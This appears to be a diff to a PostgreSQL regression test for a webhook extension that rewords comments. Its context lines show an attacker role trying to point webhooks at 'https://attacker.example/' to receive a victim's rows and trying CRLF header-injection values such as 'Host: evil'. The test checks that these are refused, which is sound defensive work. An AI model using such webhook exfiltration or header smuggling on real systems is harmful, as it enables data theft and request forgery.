@@ -40,7 +40,7 @@ SELECT DISTINCT a.code FROM pg_class AS c,
     WHERE c.relnamespace = 'webhook'::regnamespace AND c.relkind = 'r' AND command NOT LIKE 'COPY%';
 SELECT attack.attempt('CREATE FUNCTION webhook.mine() RETURNS integer LANGUAGE sql AS ''SELECT 1''');
 
--- Nothing of the victim's shows in what a function returns.
+-- No function returns anything of the victim's.
 SELECT count(*) FROM webhook.get_webhooks();
 SELECT count(*) FROM webhook.get_webhooks('victim');
 SELECT f, a.code, replace(a.message, :'victim_id', 'N') AS message FROM unnest(ARRAY['get_secret(%s)', 'get_public_key(%s)',
@@ -53,7 +53,7 @@ SELECT (attack.attempt('SELECT webhook.reactivate(''00000000'')')).code;
 SELECT (attack.attempt('SELECT webhook.get_attendees(''00000000'')')).code;
 SELECT count(*) FROM pg_stats WHERE schemaname = 'webhook';
 
--- Rows of a table that may not be read.
+-- Rows of a table that the attacker may not read.
 SELECT (attack.attempt($$SELECT webhook.create_webhook('a', 'guest.create', 'https://attacker.example/')$$)).*;
 SELECT (attack.attempt($$SELECT webhook.create_webhook('a', 'x.y,guest.*', 'https://attacker.example/')$$)).*;
 SELECT (attack.attempt($$SELECT webhook.watch('victim.guest', 'mine')$$)).*;
@@ -64,7 +64,7 @@ SELECT webhook.create_webhook('a', 'later.*', 'https://attacker.example/') AS la
 SELECT (attack.attempt(format($$SELECT webhook.update_webhook(%s, '{"event": "guest.update"}')$$, :later))).*;
 SELECT (attack.attempt(format($$SELECT webhook.update_webhook(%s, '{"owner": "regress_victim"}')$$, :later))).*;
 
--- Watching one's own table does not let others' webhooks see it, nor one's own see theirs.
+-- Watching one's own table neither shows it to others' webhooks nor shows theirs to one's own.
 CREATE TABLE attack.guest (id integer PRIMARY KEY, name text);
 SELECT webhook.watch('attack.guest', 'guest');
 INSERT INTO attack.guest VALUES (1, 'bait');
@@ -154,7 +154,7 @@ SELECT webhook.create_webhook('victim', 'palette.*', 'https://victim.example/') 
 SELECT webhook.fire_webhook(:palette_hook, 'red,a') <> '' AS fired;
 SET SESSION AUTHORIZATION regress_attacker;
 
--- Headers and URLs that would say something else than they seem to.
+-- Headers and URLs that would mean something other than they seem to.
 SELECT header, (attack.attempt(format('SELECT webhook.create_webhook(''a'', ''x.y'', ''https://h/'', headers => %L)', header))).*
     FROM unnest(ARRAY['{"X": "a\r\nHost: evil"}', '{"X": "a\nb"}', '{"X\r\nHost": "a"}', '{"X:Y": "a"}', '{"X ": "a"}', '{"": "a"}',
         '{"Host": "evil"}', '{"hOsT": "evil"}', '{"Content-Length": "0"}', '{"Transfer-Encoding": "chunked"}', '{"webhook-signature": "v1,x"}',
